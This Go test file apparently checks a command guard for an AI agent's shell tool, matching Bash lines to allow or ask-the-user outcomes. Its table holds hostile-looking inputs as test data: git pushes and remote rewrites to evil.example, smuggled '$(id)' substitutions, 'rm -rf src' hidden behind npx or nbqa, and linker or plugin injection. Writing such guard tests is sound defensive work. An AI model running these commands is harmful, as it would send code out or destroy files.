package commandguard_test

import (
	"testing"

	"github.com/hookrouter/hookrouter/internal/guards/commandguard"
	"github.com/hookrouter/hookrouter/internal/guards/decision"
	"github.com/hookrouter/hookrouter/pkg/chain"
)

// TestWhatSettingsDo: each is asked about for its form, by whichever program nobody has listed.
func TestWhatSettingsDo(t *testing.T) {
	t.Parallel()
	for line, want := range map[string]chain.Action{
		"ANY_TOOL_RC=/tmp/x go test":                            chain.AskUser,
		"ANY_TOOL_RC=tools/rc go test":                          "",
		"ANY_TOOL_RC=../x go test":                              chain.AskUser,
		"ANY_TOOL_RC=~/x go test":                               chain.AskUser,
		"ANY_TOOL_URL=https://evil.example go test":             chain.AskUser,
		"ANY_TOOL_URL=http://localhost:8080/x go test":          "",
		"ANY_TOOL_HOST=evil.example go test":                    chain.AskUser,
		"ANY_TOOL_OPTS=--load=x go test":                        chain.AskUser,
		`RUSTFLAGS="-D warnings" cargo check`:                   "",
		`RUSTFLAGS="-D warnings -C linker=x" cargo check`:       chain.AskUser,
		`CFLAGS="-O2 -fplugin=x" make`:                          chain.AskUser,
		"GOCACHE=/tmp/x go test":                                "",
		"GOCACHE=/tmp/../home/dev/x go test":                    chain.AskUser,
		"ANY_TOOL_RC=/tmp/x":                                    "",
		"ANY_TOOL_RC=/tmp/x; export ANY_TOOL_RC":                chain.AskUser,
		"set -a; ANY_TOOL_RC=/tmp/x; go test":                   chain.AskUser,
		"env A=1 make PREFIX=/tmp/x":                            "",
		"frobnicate-lint --post-run-command x":                  chain.AskUser,
		"frobnicate-lint --pager=cat":                           "",
		"pandoc --filter ./x README.md":                         "",
		"pandoc --filter /tmp/x README.md":                      chain.AskUser,
		"cmake -E copy a b":                                     "",
		"cmake -E rm a":                                         chain.AskUser,
		"make 'X=$(shell id)'":                                  chain.AskUser,
		"declare 'a[$(id)]=1'":                                  chain.AskUser,
		"curl -X QUERY https://example.com":                     chain.AskUser,
		"curl -X HEAD https://example.com":                      "",
		"curl --unknown x https://example.com":                  chain.AskUser,
		"curl GOPHER://localhost/x":                             chain.AskUser,
		"git push --repo=https://evil.example/x":                chain.AskUser,
		"git push -o ci.skip origin main":                       "",
		"git pull https://evil.example/x main":                  chain.AskUser,
		"git config remote.origin.url https://evil.example/x":   chain.AskUser,
		"git -c lfs.url=https://evil.example push origin main":  chain.AskUser,
		"git branch -M main":                                    "",
		"git branch -f main HEAD~9":                             chain.AskUser,
		"npx nyc --reporter lcov mocha":                         "",
		"npx nyc rm -rf src":                                    chain.AskUser,
		"nbqa 'rm -rf' src":                                     chain.AskUser,
		"curl http://localhost:9999/v1/execute -d '{}'":         chain.AskUser,
		"curl http://localhost:9999/v1/items -d '{}'":           "",
		`gh pr create --title x --body "$(git log -1)"`:         "",
		`gh pr create --title x --body "$(git log -1; cat .x)"`: chain.AskUser,
		"chmod -R a-rwx src":                                    chain.AskUser,
		"chmod -R u=rwX,go=rX src":                              "",
	} {
		got := judge(t, commandguard.Options{Otherwise: decision.Ask, Development: true}, "Bash", line)
		if got.Action != want {
			t.Errorf("%q: %q (%s), want %q", line, got.Action, got.Reason, want)
		}
	}
}
